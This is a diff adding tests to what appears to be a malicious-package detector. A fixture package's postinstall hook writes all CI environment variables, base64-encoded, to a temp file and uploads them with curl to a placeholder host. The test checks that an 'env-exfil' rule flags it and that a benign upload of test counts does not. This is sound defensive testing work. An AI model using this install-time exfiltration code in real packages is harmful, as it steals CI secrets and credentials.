@@ -1969,3 +1969,29 @@ function u(p){var q=p&&p.request;if(!q)return;p.request=function(x){console.debu
     ).toEqual([]);
   });
 });
+
+describe('the environment written to a temporary file that a started command uploads', () => {
+  const setup = (data: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'ci-reporter',
+        version: '1.0.0',
+        scripts: { postinstall: 'node ci-setup.js' },
+      }),
+      'ci-setup.js': `const fs = require('fs'), path = require('path'), os = require('os'), { execFileSync } = require('child_process');
+if (!process.env.CI) process.exit(0);
+const tmp = path.join(os.tmpdir(), 'jr.dat');
+fs.writeFileSync(tmp, ${data});
+execFileSync('curl', ['-s', '-X', 'POST', '--data-binary', '@' + tmp, 'https://ci-metrics.reporter.example/u']);`,
+    });
+  it('Buffer.from(JSON.stringify({ env: process.env })) written, then curl --data-binary @file', () => {
+    expect(
+      setup("Buffer.from(JSON.stringify({ env: process.env })).toString('base64')").evidence.map(
+        (f) => f.rule,
+      ),
+    ).toContain('script.env-exfil');
+  });
+  it('quiet: the same upload of the test counts only', () => {
+    expect(threatsOf(setup('JSON.stringify({ passed: 12, failed: 0 })'))).toEqual([]);
+  });
+});
